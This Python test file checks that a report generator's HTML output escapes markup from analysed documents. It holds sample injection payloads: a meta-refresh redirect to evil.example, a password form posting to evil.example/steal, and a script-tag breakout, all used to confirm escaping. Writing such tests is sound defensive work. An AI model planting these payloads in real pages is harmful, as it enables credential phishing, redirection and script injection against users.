"""The HTML report escapes everything it takes from documents: no markup in an article, a title
or any derived name can add a tag, a comment or a redirect to the written report."""

from __future__ import annotations

from dataclasses import replace
from html.parser import HTMLParser
from pathlib import Path

from typer.testing import CliRunner

from triangulate.cli import app
from triangulate.model import Failure, Republication
from triangulate.store import open_store

from .conftest import make_document
from .web_corpus import analyses, reconciliation

REFRESH = '<meta http-equiv="refresh" content="0;url=https://evil.example">'
FORM = '<form action="https://evil.example/steal"><input name="password"></form>'
COMMENT = "<!-- everything after this is hidden"
BREAKOUT = "</script><script>alert(1)</script>"
HOSTILE = (REFRESH, FORM, COMMENT, BREAKOUT)
PAYLOAD = " ".join(HOSTILE)


class _Tags(HTMLParser):
    """Every start tag and comment of a page, as a browser's tokenizer sees them."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.comments: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))

    def handle_comment(self, data: str) -> None:
        self.comments.append(data)


def _hostile_store(path: Path) -> Path:
    items = analyses()
    first = items[0]
    text = first.document.text + "\n\n" + "\n".join(HOSTILE)
    document = replace(
        make_document(text, "tribune"),
        title=f"Title {REFRESH}",
        publisher=f"Publisher {FORM}",
        authors=(f"Author {COMMENT}",),
        source=f"feed/{BREAKOUT}.html",
        removed=(f"Removed {REFRESH}",),
        republished_from=Republication(publisher=f"Wire {FORM}", url=f"https://x/{BREAKOUT}"),
        published="2023-03-03",
    )
    items[0] = replace(first, document=document)
    base = reconciliation(items)
    claim = base.claims[0]
    hostile_claim = replace(
        claim, claim=replace(claim.claim, text=f"claim {PAYLOAD}", speaker_text=f"says {FORM}")
    )
    entity = base.entities[0]
    hostile = replace(
        base,
        entities=(
            replace(entity, name=f"Entity {REFRESH}", aliases=(entity.name, f"alias {COMMENT}")),
            *base.entities[1:],
        ),
        claims=(hostile_claim, *base.claims[1:]),
        comparisons=tuple(
            replace(c, question=f"Q {REFRESH}?", explanation=f"because {PAYLOAD}")
            for c in base.comparisons
        ),
        timeline=tuple(replace(t, summary=f"summary {PAYLOAD}") for t in base.timeline),
    )
    with open_store(path) as store:
        for analysis in items:
            store.put_analysis(analysis)
        store.put_reconciliation(hostile)
        store.put_failure(Failure(f"broken {FORM}.pdf", f"reason {PAYLOAD}"))
    return path


def test_report_escapes_markup_from_documents_and_results(tmp_path: Path) -> None:
    db = _hostile_store(tmp_path / "hostile.db")
    out = tmp_path / "report.html"
    result = CliRunner().invoke(app, ["report", "--db", str(db), "-o", str(out)])
    assert result.exit_code == 0, result.output
    html = out.read_text(encoding="utf-8")

    for raw in (*HOSTILE, '<meta http-equiv="refresh', "<form", "<!--", "<script", "</script"):
        assert raw not in html, raw
    # Shown to the reader as text, once per place it was put.
    assert "&lt;meta http-equiv=&#34;refresh&#34;" in html
    assert "&lt;form action=&#34;https://evil.example/steal&#34;&gt;" in html
    assert "&lt;!-- everything after this is hidden" in html
    assert "&lt;/script&gt;&lt;script&gt;alert(1)&lt;/script&gt;" in html

    parsed = _Tags()
    parsed.feed(html)
    names = [tag for tag, _ in parsed.tags]
    assert not parsed.comments
    assert "form" not in names and "script" not in names and "input" not in names
    metas = [attrs for tag, attrs in parsed.tags if tag == "meta"]
    assert [m.get("http-equiv") for m in metas] == [None, None, "Content-Security-Policy"]
    assert all(
        (attrs.get("href") or "#").startswith("#") for tag, attrs in parsed.tags if tag == "a"
    )


def test_report_sentence_anchors_escape_the_document_id(tmp_path: Path) -> None:
    from triangulate.outputs.report import render_report

    items = analyses()
    odd = replace(items[1], document=replace(items[1].document, id='x"><b id="y'))
    chosen = [items[0], odd, items[2]]
    html = render_report(chosen, reconciliation(chosen), [])
    assert '<b id="y' not in html
    assert 'id="x&#34;&gt;&lt;b id=&#34;y-s0"' in html
